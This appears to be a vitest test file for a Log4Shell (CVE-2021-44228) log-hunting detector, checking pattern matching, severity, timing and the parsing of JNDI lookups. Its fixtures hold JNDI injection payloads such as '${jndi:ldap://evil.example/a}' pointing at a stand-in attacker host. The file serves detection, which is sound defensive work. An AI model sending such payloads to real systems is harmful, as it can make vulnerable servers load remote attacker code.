import { describe, expect, test } from 'vitest'
import { huntIn } from '../../../test/kit/hunting.ts'
import { filesLike } from '../../../test/laws/source-files.ts'
import { traces } from './index.ts'

test('every trace is in the list under the name of its file', () => {
  const files = filesLike(/^src\/hunt\/evidence\/[^/]+\.ts$/).map((name) => /([^/]+)\.ts$/.exec(name)?.[1] ?? '')

  expect(traces.map(({ id }) => id).sort()).toEqual(
    files.filter((name) => !['index', 'trace', 'evidence.test'].includes(name)).sort(),
  )
})

describe.each(traces.map((trace) => [trace.id, trace] as const))('%s', (_id, trace) => {
  test('is shown by its examples, and by no other trace’s', () => {
    for (const text of trace.examples.shows) expect(trace.shownBy(text)).not.toBeNull()
    for (const text of trace.examples.refuses) expect(trace.shownBy(text)).toBeNull()
    for (const other of traces.filter((each) => each !== trace))
      for (const text of other.examples.shows) expect(trace.shownBy(text)).toBeNull()
    expect(trace.source).toMatch(/^https:/)
  })

  test('is found in a log, as evidence', () => {
    for (const text of trace.examples.shows) {
      const { findings } = huntIn(`2021-12-10 12:43:13 before\n${text}\n2021-12-10 12:43:14 after\n`)

      const [finding, ...others] = findings.filter(({ verdict }) => verdict === 'evidence')
      expect(others).toEqual([])
      expect(finding).toMatchObject({ outcome: 'likely', severity: 'critical', at: { line: 2 } })
      expect(finding?.evidence[0]).toMatchObject({ kind: 'log', text })
    }
    for (const text of trace.examples.refuses) expect(huntIn(text).findings).toEqual([])
  })

  test.each(['at ', '[', 'Reference Class Name: ', 'JndiLookup', 'a.', '${', 'Invalid date format: ['])(
    'takes %j without end in time that grows with it alone',
    (text) => {
      const before = process.cpuUsage()
      trace.shownBy(text.repeat(Math.ceil(200_000 / text.length)))

      expect(process.cpuUsage(before).user / 1_000).toBeLessThan(300)
    },
  )
})

test('the name that was looked up is told, with whom it asks', () => {
  const [finding] = huntIn(
    '2021-12-10 12:43:13,416 main WARN Error looking up JNDI resource [ldap://evil.example:1389/AKIAEXAMPLE].',
  ).findings

  expect(finding?.lookup).toMatchObject({
    meaning: 'jndi:ldap://evil.example:1389/AKIAEXAMPLE',
    host: 'evil.example',
    port: 1389,
    path: 'AKIAEXAMPLE',
  })
  expect(finding?.when).toBe(Date.UTC(2021, 11, 10, 12, 43, 13, 416))
})

test('a line that shows a trace and holds a payload is told twice', () => {
  const { findings } = huntIn(
    'Infinite loop in property interpolation of ${jndi:ldap://evil.example/a} ${a:-${a}}: a->a',
  )

  expect(findings.map(({ verdict }) => verdict).sort()).toEqual(['evidence', 'fires'])
})

test('a frame below a warning of a name of the application itself is no evidence', () => {
  const frame = '\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:51)\n'
  const warning = (name: string): string =>
    `2021-12-10 12:43:13,416 main WARN Error looking up JNDI resource [${name}]. javax.naming.NamingException\n${frame}`

  expect(huntIn(warning('java:comp/env/app')).findings).toEqual([])
  expect(huntIn(warning('ldap://evil.example/a')).findings.length).toBeGreaterThan(0)
})

test('in the record of a request it may be what was sent, which claims less', () => {
  const { findings } = huntIn(
    '203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 6 "-" "Reference Class Name: Exploit"',
  )

  expect(findings).toMatchObject([
    { verdict: 'evidence', severity: 'high', cves: [{ id: 'CVE-2021-44228', status: 'under_investigation' }] },
  ])
  expect(findings[0]?.because).toMatch(/or whoever sent the request wrote that text$/)
})
